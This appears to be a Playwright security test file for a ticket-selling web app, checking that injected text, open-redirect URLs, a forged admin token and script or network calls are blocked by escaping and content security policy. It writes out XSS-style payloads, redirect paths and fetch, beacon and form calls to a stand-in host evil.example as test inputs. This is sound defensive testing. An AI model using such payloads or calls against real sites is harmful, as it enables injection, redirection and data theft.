/** People who mean harm, as their victims' browsers see it: nothing of theirs runs, and nothing of ours breaks. */
import type { Page, Request } from '@playwright/test';
import { profile } from '#contract/accounts.ts';
import { welcomeAdmin } from '#contract/admin.ts';
import { notFoundPage } from '#contract/page-words.ts';
import { hostile, hostileEvent } from '#tests/support/hostile-text.ts';
import type { Visitor } from '#tests/support/http-visitor.ts';
import { buyTickets, codesOf } from '#tests/support/people.ts';
import { placeOf } from '#tests/support/place-of.ts';
import type { Product } from '#tests/support/product.ts';
import { payWithCard } from './buyer-steps.ts';
import { expect, test } from './journey.ts';

const BUYER = 'buyer-of-harm@example.com';
const PHONE = { width: 390, height: 844 };
const PATIENCE_MS = 20_000;

type Harm = Awaited<ReturnType<typeof hostileEvent>> & { sessionId: string; numbers: string[] };
const harms = new WeakMap<Product, Promise<Harm>>();

async function harmIn(product: Product): Promise<Harm> {
  const place = placeOf(product);
  const event = await hostileEvent(place);
  const items = [hostile.ticketName, hostile.longName].map((ticketName) => ({ ticketName, quantity: 1 }));
  const order = await buyTickets(place, event.eventId, items, BUYER);
  return { ...event, sessionId: order.sessionId, numbers: codesOf(order) };
}

const hostileTest = test.extend<{ harm: Harm }>({
  harm: async ({ product }, use) => {
    const harm = harms.get(product) ?? harmIn(product);
    harms.set(product, harm);
    await use(await harm);
  },
  page: async ({ page }, use) => {
    await page.setViewportSize(PHONE);
    // Whatever runs calls this; it stands in every page and frame before anything else does.
    await page.addInitScript(() =>
      Object.assign(window, { boom: () => document.documentElement.setAttribute('data-boom', '') }),
    );
    await use(page);
  },
});

/** Nothing has run, nothing was made of what was typed, and the page is as wide as the phone. */
async function expectUnharmed(page: Page, ...typed: string[]): Promise<void> {
  for (const text of typed) await expect(page.getByText(text, { exact: false }).first()).toBeVisible();
  const found = await page.evaluate(() => ({
    ran: document.documentElement.hasAttribute('data-boom'),
    made: document.querySelectorAll(
      '[onerror],[onload],[onmouseover],[srcdoc],[src="x"],[href^="javascript:"],main style',
    ).length,
    width: document.documentElement.scrollWidth,
  }));
  expect(found, page.url()).toEqual({ ran: false, made: 0, width: PHONE.width });
}

/** As far as the payment page, with one ticket. */
async function checkOut(page: Page, eventId: string): Promise<void> {
  await page.goto(`/payment/${eventId}`);
  for (const name of [/add to cart/i, /checkout/i]) await page.getByRole('button', { name }).first().click();
}

async function logInAs(page: Page, visitor: Visitor, url: string): Promise<void> {
  await page.context().addCookies([...visitor.cookies].map(([name, value]) => ({ name, value, url })));
}

hostileTest.use({ actionTimeout: PATIENCE_MS, navigationTimeout: PATIENCE_MS });

hostileTest.describe('Text that somebody typed to do harm', () => {
  hostileTest('stays text on the page of an event, in its cart and on its map', async ({ page, harm }) => {
    await page.goto(`/payment/${harm.eventId}`);
    await expect(page).toHaveTitle(`${hostile.title} · Handstamp`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(hostile.title);
    await expectUnharmed(
      page,
      '{{777*777}} ${777*777} <%= 777*777 %>',
      hostile.street,
      hostile.organizationName,
      hostile.longName,
    );

    for (const add of await page.getByRole('button', { name: /add to cart/i }).all()) await add.click();
    await expectUnharmed(page, hostile.ticketName);
    await page.getByRole('region', { name: 'Location' }).scrollIntoViewIfNeeded();
    await page.getByRole('button', { name: hostile.title }).click();
    await expect(page.locator('.leaflet-popup')).toHaveText(hostile.title);
    await expectUnharmed(page);
  });

  hostileTest('stays text where it is paid, in the confirmation and in the mail', async ({ page, harm }) => {
    await checkOut(page, harm.eventId);
    await page.waitForURL(/\/sandbox\/pay\//);
    await expectUnharmed(page, hostile.ticketName);
    await payWithCard(page, 'another@example.com');
    await expectUnharmed(page, hostile.ticketName, hostile.title);

    await page.goto(`/sandbox/inbox?to=${BUYER}`);
    await expectUnharmed(page, hostile.title);
    await page.getByRole('link', { name: hostile.title }).click();
    const mail = page.frameLocator('iframe');
    await expect(mail.getByText(hostile.ticketName).first()).toBeVisible();
    expect(await mail.locator('[onerror],[src="x"],[href^="javascript:"],script').count()).toBe(0);
    await expectUnharmed(page);
  });

  hostileTest('stays text for the guest who gives a ticket back, and at the door', async ({ page, harm }) => {
    await page.goto(`/refund/${harm.eventId}`);
    await expectUnharmed(page, hostile.title);
    await page.goto(`/payment/${harm.eventId}`);
    await page.getByRole('button', { name: 'I am an Attendant' }).click();
    await expect(page.getByRole('heading', { level: 1, name: hostile.title })).toBeVisible();
    await expectUnharmed(page);
    await page.getByLabel('Attendant Code').fill(harm.attendantCode);
    await page.getByRole('button', { name: 'Open the scanner' }).click();
    for (const number of harm.numbers) {
      await page.getByLabel('Confirmation Code').fill(number);
      await page.getByRole('button', { name: 'Check', exact: true }).click();
      await expect(page.getByRole('main').getByRole('status')).toContainText(number.slice(-4));
      await expectUnharmed(page);
    }
  });

  hostileTest('stays text in its own organizer’s profile, with its guests', async ({ page, harm, product }) => {
    await logInAs(page, harm.visitor, product.url);
    await page.goto('/profile');
    await expectUnharmed(page, hostile.organizationName, hostile.title);
    await page.getByRole('button', { name: 'Show Guest List' }).click();
    await expectUnharmed(page, BUYER);
    await page.getByRole('button', { name: 'Show Details' }).click();
    await page.getByRole('button', { name: 'Edit Event' }).click();
    await expect(page.locator('[name="title"]')).toHaveValue(hostile.title);
    await expectUnharmed(page);
  });
});

hostileTest.describe('An address that somebody made up', () => {
  for (const path of [
    '//evil.example',
    '//evil.example/login',
    '/\\evil.example',
    '/javascript:boom()',
    '/login//evil.example',
  ]) {
    hostileTest(`stays here and says that nothing is there: ${path}`, async ({ page, product }) => {
      await page.goto(`${product.url}${path}`);
      await expect(page.getByRole('heading', { level: 1, name: notFoundPage })).toBeVisible();
      expect(new URL(page.url()).origin).toBe(product.url);
      await page.getByRole('main').getByRole('link', { name: 'Home' }).click();
      await expect(page).toHaveURL(`${product.url}/`);
    });
  }

  hostileTest('sends nobody on after they logged in, whatever it asks for', async ({ page, harm, product }) => {
    await page.goto('/login?next=//evil.example&redirect=javascript:boom()&registered');
    await page.getByLabel('Email').fill(harm.email);
    await page.getByLabel('Password', { exact: true }).fill('correct horse battery');
    await page.getByRole('button', { name: 'Login' }).click();
    await expect(page).toHaveURL(`${product.url}/profile`);
  });

  hostileTest('sends nobody away after they signed up, whatever the answer says', async ({ page, product }) => {
    for (const url of ['//evil.example', 'https://evil.example', 'javascript:boom()']) {
      await page.route('**/api/public/register', (route) => route.fulfill({ json: { url } }));
      await page.goto('/register');
      await page.getByLabel('Email').fill('x@example.com');
      await page.getByLabel('Password', { exact: true }).fill('correct horse battery');
      await page.getByLabel('Confirm password').fill('correct horse battery');
      await page.getByRole('checkbox').check();
      await page.getByRole('button', { name: 'Register' }).click();
      await expect(page).toHaveURL(`${product.url}/login?registered`);
    }
  });

  hostileTest('sends no buyer to a stranger’s payment page', async ({ page, harm, product }) => {
    const answer = { id: 'cs_1', url: 'https://checkout.stripe.com.evil.example/pay' };
    await page.route('**/api/public/create-checkout-session', (route) => route.fulfill({ json: answer }));
    await checkOut(page, harm.eventId);
    await expect(page.locator('#toasts .Toastify__toast')).toHaveCount(1);
    expect(page.url()).toBe(`${product.url}/payment/${harm.eventId}`);
  });
});

hostileTest.describe('A browser that is not what it says', () => {
  hostileTest('sees the heading of an admin by a forged token, and no figure', async ({ page, product }) => {
    const claims = { isAdmin: true, exp: 4_000_000_000 };
    const token = `a.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.b`;
    await page.context().addCookies([{ name: 'token', value: token, url: product.url }]);
    const refused = page.waitForResponse((reply) => reply.url().includes('/api/protected/admin/'));
    await page.goto('/dashboard');
    await expect(page.getByRole('heading', { level: 1, name: welcomeAdmin })).toBeVisible();
    expect((await refused).status()).toBe(401);
    await expect(page.getByText(/\$\d/)).toHaveCount(0);
  });

  hostileTest(
    'finds nothing of the person before, who logged out: not in cookies, memory, or by going back',
    async ({ page, harm, product }) => {
      await page.goto('/login');
      await page.getByLabel('Email').fill(harm.email);
      await page.getByLabel('Password', { exact: true }).fill('correct horse battery');
      await page.getByRole('button', { name: 'Login' }).click();
      await expect(page.getByText(hostile.organizationName).first()).toBeVisible();
      await page.evaluate(() => {
        sessionStorage.setItem('cart:x', '[]');
        localStorage.setItem('draft', 'mine');
      });
      await page.getByRole('button', { name: 'Logout' }).click();
      await expect(page.getByRole('heading', { level: 1, name: 'Login' })).toBeVisible();

      const cookies = (await page.context().cookies()).map(({ name }) => name);
      expect(cookies.filter((name) => ['token', 'session', 'XSRF-TOKEN'].includes(name))).toEqual([]);
      expect(await page.evaluate(() => [localStorage.getItem('draft'), sessionStorage.getItem('cart:x')])).toEqual([
        null,
        null,
      ]);
      await page.goto('/legal');
      await page.goBack();
      await page.goBack();
      await expect(page.getByText(hostile.organizationName)).toHaveCount(0);
      expect((await page.context().request.get(`${product.url}${profile.path}`)).status()).toBe(401);
    },
  );
});

hostileTest.describe('Whatever gets into a page all the same', () => {
  hostileTest.use({ expectsReports: true });

  hostileTest('does not run, and the browser says so', async ({ page, policyReports }) => {
    await page.goto('/faq');
    const tried = await page.evaluate(() => {
      const script = document.createElement('script');
      const main = document.querySelector('main') ?? document.body;
      const attempt = (work: () => unknown) => {
        try {
          work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'failed';
        }
      };
      return [
        attempt(() => Object.assign(main, { innerHTML: '<img src=x onerror=boom()>' })),
        attempt(() => Object.assign(script, { text: 'boom()' })),
        attempt(() => Object.assign(script, { src: 'https://evil.example/x.js' })),
        attempt(() => Reflect.apply(setTimeout, window, ['boom()'])),
        attempt(() => main.setAttribute('onclick', 'boom()')),
        attempt(() => Object.assign(document.createElement('iframe'), { srcdoc: '<script>boom()</script>' })),
      ];
    });
    expect(tried).not.toContain('done');
    // Later, because what the test itself evaluates may evaluate more.
    await page.evaluate(() => void setTimeout(() => Reflect.get(window, 'eval')('boom()')));
    await page.evaluate(() => {
      const style = document.createElement('style');
      style.append('main { display: none }');
      document.head.append(style);
    });
    await expect(page.getByRole('main')).toBeVisible();
    expect(await page.evaluate(() => document.documentElement.hasAttribute('data-boom'))).toBe(false);

    // The same list that fails every journey whose page it was.
    const sinks = [
      'innerHTML',
      'HTMLScriptElement text',
      'HTMLScriptElement src',
      'setTimeout',
      'onclick',
      'srcdoc',
      'eval',
    ];
    await expectReported(policyReports, [
      ...sinks.map((sink) => `require-trusted-types-for .*${sink}\\|`),
      'style-src',
    ]);
  });

  hostileTest('reaches nobody outside: no picture, no call, no frame, no form', async ({ page, policyReports }) => {
    const asked: Request[] = [];
    page.on('request', (request) => asked.push(request));
    await page.goto('/faq');
    await page.evaluate(async () => {
      const at = (path: string) => `https://evil.example/${path}`;
      document.body.append(Object.assign(new Image(), { src: at('picture') }));
      document.body.append(Object.assign(document.createElement('iframe'), { src: at('frame') }));
      const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post' });
      document.body.append(form);
      form.submit();
      navigator.sendBeacon(at('beacon'));
      await fetch(at('call')).catch(() => {});
    });
    await expectReported(policyReports, [
      'img-src .*/picture',
      'frame-src .*evil',
      'form-action .*/form',
      'connect-src .*/beacon',
      'connect-src .*/call',
    ]);
    // What the browser stopped before it was a request is not among them.
    const abroad = () => asked.filter((request) => request.url().includes('evil.example'));
    await expect.poll(() => new Set(abroad().map((request) => request.failure()?.errorText))).toEqual(new Set(['csp']));
  });
});

/** Each of them once at least; they come whenever the browser's processes get to it. */
async function expectReported(reports: string[], violations: string[]): Promise<void> {
  for (const violation of violations) {
    const isThere = new RegExp(`securitypolicyviolation: ${violation}`);
    await expect.poll(() => reports.some((report) => isThere.test(report)), violation).toBe(true);
  }
}
